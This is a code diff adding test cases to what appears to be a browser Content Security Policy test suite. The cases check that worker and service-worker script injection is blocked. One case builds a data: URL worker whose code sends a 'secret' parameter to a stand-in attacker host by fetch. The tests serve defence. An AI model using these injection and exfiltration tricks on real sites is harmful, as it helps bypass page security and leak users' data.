@@ -97,4 +97,36 @@ const otherWays: readonly Attempt[] = [
   },
 ];
 
-testBlocked('code', [...scriptElements, ...otherWays]);
+const WORKERS = /^(worker-src|require-trusted-types-for)$/;
+
+const workers: readonly Attempt[] = [
+  {
+    what: 'a worker from a file, which would run without this policy',
+    attack: inPage(() => new Worker('/favicon.svg')),
+    blockedBy: WORKERS,
+  },
+  {
+    what: 'a worker from a blob: URL, whose origin is the portal’s',
+    attack: inPage(() => new Worker(URL.createObjectURL(new Blob(['window.attacked = true'])))),
+    blockedBy: WORKERS,
+  },
+  {
+    what: 'a service worker',
+    attack: inPage(() => navigator.serviceWorker.register('/favicon.svg')),
+    blockedBy: WORKERS,
+  },
+  {
+    what: 'data sent by a worker from a data: URL',
+    attack: inPage(
+      (evil) =>
+        new Promise((resolve) => {
+          const code = `fetch('${evil}/?secret=1').catch(() => 0).then(() => postMessage(1))`;
+          new Worker(`data:text/javascript,${encodeURIComponent(code)}`).onmessage = resolve;
+        }),
+    ),
+    // The event fires in the worker.
+    blockedBy: null,
+  },
+];
+
+testBlocked('code', [...scriptElements, ...otherWays, ...workers]);
